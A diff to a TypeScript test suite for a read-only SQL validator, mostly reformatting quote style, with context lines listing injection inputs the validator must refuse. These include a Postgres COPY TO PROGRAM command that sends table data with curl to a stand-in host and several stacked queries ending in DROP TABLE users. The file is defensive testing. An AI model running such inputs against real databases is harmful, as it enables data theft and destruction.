@@ -59,7 +59,7 @@ const postgres: Attack[] = [
   ["COPY users TO PROGRAM 'curl -d @- evil.example'", 'read-only.statement-kind'],
   ["COPY (SELECT 1) TO '/tmp/x'", 'read-only.statement-kind'],
   ['SET statement_timeout = 0', 'read-only.statement-kind'],
-  ["DO $$BEGIN PERFORM pg_sleep(1); END$$", 'read-only.statement-kind'],
+  ['DO $$BEGIN PERFORM pg_sleep(1); END$$', 'read-only.statement-kind'],
   ['COMMIT', 'read-only.statement-kind'],
   ['CALL cleanup()', 'read-only.statement-kind'],
   ['LISTEN channel', 'read-only.statement-kind'],
@@ -80,7 +80,7 @@ const postgres: Attack[] = [
 
 const mysql: Attack[] = [
   ['SELECT 1; DROP TABLE users', 'read-only.single-statement'],
-  ["SELECT 1 # comment\n; DROP TABLE users", 'read-only.single-statement'],
+  ['SELECT 1 # comment\n; DROP TABLE users', 'read-only.single-statement'],
   ['SELECT `a;b` FROM users; DROP TABLE users', 'read-only.single-statement'],
   ["SELECT 'it''s;'; DROP TABLE users", 'read-only.single-statement'],
   // executable comments: node-sql-parser skips them, MySQL runs them
@@ -166,7 +166,11 @@ const sqlite: Attack[] = [
   ['SELECT * FROM "a""b"', 'read-only.ambiguous-syntax'],
 ];
 
-const suites: [Dialect, Attack[]][] = [['postgres', postgres], ['mysql', mysql], ['sqlite', sqlite]];
+const suites: [Dialect, Attack[]][] = [
+  ['postgres', postgres],
+  ['mysql', mysql],
+  ['sqlite', sqlite],
+];
 
 for (const [dialect, attacks] of suites) {
   describe(`${dialect} attacks are refused`, () => {
@@ -180,8 +184,10 @@ describe('MySQL with the session sql_mode known', () => {
   it('accepts backslash escapes the server reads like the parser', async () => {
     const sql = "SELECT 'it\\'s' AS s, REPLACE(path, '\\\\', '/') FROM files";
     await expectRefusal(checkReadOnlySql(sql, 'mysql', {}), 'read-only.ambiguous-syntax');
-    await expect(checkReadOnlySql(sql, 'mysql', {}, { sqlMode: 'STRICT_TRANS_TABLES,NO_ENGINE_SUBSTITUTION' }))
-      .resolves.toEqual({ kind: 'select', tables: ['files'] });
+    await expect(checkReadOnlySql(sql, 'mysql', {}, { sqlMode: 'STRICT_TRANS_TABLES,NO_ENGINE_SUBSTITUTION' })).resolves.toEqual({
+      kind: 'select',
+      tables: ['files'],
+    });
   });
 
   it('still refuses them under NO_BACKSLASH_ESCAPES or ANSI_QUOTES', async () => {
@@ -192,7 +198,7 @@ describe('MySQL with the session sql_mode known', () => {
 
 describe('text the parsers cannot be trusted with is refused before parsing', () => {
   it.each(['postgres', 'mysql', 'sqlite'] as const)('%s: a NUL character hides the rest from C parsers', async (dialect) => {
-    await expectRefusal(checkReadOnlySql("SELECT 1\u0000; DROP TABLE users", dialect, {}), 'read-only.parse');
+    await expectRefusal(checkReadOnlySql('SELECT 1\u0000; DROP TABLE users', dialect, {}), 'read-only.parse');
     await expectRefusal(checkReadOnlySql("SELECT '\u0000'", dialect, {}), 'read-only.parse');
   });
 
